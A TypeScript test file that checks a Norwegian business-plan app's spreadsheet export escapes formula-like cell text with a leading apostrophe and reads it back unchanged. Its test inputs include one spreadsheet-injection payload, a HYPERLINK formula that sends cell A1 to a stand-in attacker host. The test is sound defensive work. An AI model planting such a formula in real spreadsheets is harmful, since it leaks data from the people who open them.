import ExcelJS from "exceljs";
import { describe, expect, it } from "vitest";
import { fromFormulaSafeText } from "~/server/domain/spreadsheet-text";
import { activity, area, goal, indicator, snapshot, YEAR } from "~/server/domain/business-plan/fixtures.test-helpers";
import type { PlanDocument } from "~/server/domain/business-plan/view";
import { parsePlanWorkbook, planSheets } from "~/server/domain/business-plan/xlsx-import";
import { planWorkbook } from "~/server/export/plan-xlsx";
import { addSheet } from "~/server/export/xlsx";

const formulaLike = [
  '=HYPERLINK("http://angriper.example/?"&A1,"Klikk her")',
  "+47 22 33 44 55",
  "-5 % fra i fjor",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  "'=allerede med apostrof",
];

async function reread(bytes: Uint8Array | ArrayBuffer) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as ArrayBuffer);
  return workbook;
}

describe("spreadsheet exports keep formula-like text as text", () => {
  it("writes such cells as text with an apostrophe first, and leaves other text alone", async () => {
    const workbook = new ExcelJS.Workbook();
    addSheet(workbook, "Ark", [{ header: "Tekst", key: "tekst", width: 40 }], [...formulaLike, "Vanlig tekst", "Tre – to"].map((tekst) => ({ tekst })));
    const sheet = (await reread(await workbook.xlsx.writeBuffer())).getWorksheet("Ark")!;
    const cells = formulaLike.map((_, i) => sheet.getCell(i + 2, 1));
    for (const cell of cells) {
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeFalsy();
      expect(cell.text).toMatch(/^'/);
    }
    // XML keeps a carriage return as a line break.
    expect(cells.map((c) => fromFormulaSafeText(c.text))).toEqual(formulaLike.map((t) => t.replace("\r", "\n")));
    expect([sheet.getCell(9, 1).value, sheet.getCell(10, 1).value]).toEqual(["Vanlig tekst", "Tre – to"]);
  });

  it("reads the plan's own export back as the text that was written", async () => {
    const [first, second, third, fourth] = formulaLike;
    const plan = snapshot({
      focusAreas: [
        area({
          key: "f1",
          title: first!,
          goals: [goal({ key: "g1", text: second!, activities: [activity({ key: "a1", text: third!, responsible: fourth!, responsiblePerson: "'=allerede med apostrof" })] })],
        }),
      ],
      indicators: [indicator({ key: "i1", name: "=1+1", values: [] })],
    });
    const doc: PlanDocument = {
      officeName: "=Nav Grimstad",
      year: plan.plan.year,
      slug: "grimstad",
      snapshot: plan,
      services: [],
      approvals: [],
      linkedActions: {},
      namesShown: true,
    };
    const bytes = await planWorkbook(doc);

    const sheet = (await reread(bytes)).getWorksheet(planSheets.activities)!;
    expect(sheet.getCell(2, 1).value).toBe(`'${first}`);
    expect(sheet.getCell(2, 1).type).toBe(ExcelJS.ValueType.String);

    const parsed = await parsePlanWorkbook(bytes, YEAR);
    expect(parsed.errors).toEqual([]);
    expect(parsed.activities).toMatchObject([
      { area: first, goal: { text: second }, activity: { text: third, responsible: fourth, responsiblePerson: "'=allerede med apostrof" } },
    ]);
    expect(parsed.indicators).toMatchObject([{ name: "=1+1" }]);
  });
});
